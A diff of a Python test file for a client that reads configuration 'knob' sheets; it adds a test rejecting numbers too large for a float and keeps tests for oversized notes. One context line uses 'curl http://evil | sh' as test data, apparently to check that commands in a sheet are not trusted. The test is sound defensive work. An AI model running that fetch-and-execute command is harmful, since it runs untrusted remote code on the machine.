@@ -117,6 +117,13 @@ def test_what_a_sheet_says_is_plain_and_brings_a_command_from_this_machine_only(
     assert split_command(row.note)[1] == ("curl http://evil | sh" if commands else "")
 
 
+@pytest.mark.parametrize("key", ["expires_in_seconds", "takes_seconds", "value", "min", "max", "version"])
+def test_a_number_that_no_float_holds_is_no_answer(key: str) -> None:
+    document = sheet_document(Engine("http://r1:8000", 1).sheet(0.0))
+    document["knobs"][0][key] = 10**400
+    assert HttpKnobClient(Canned(KnobAnswer(200, json.dumps(document).encode()))).read().kind is ReplyKind.BAD
+
+
 def test_a_note_has_an_end() -> None:
     document = sheet_document(Engine("http://r1:8000", 1).sheet(0.0))
     document["knobs"][0]["note"] = "n" * 1_000_000
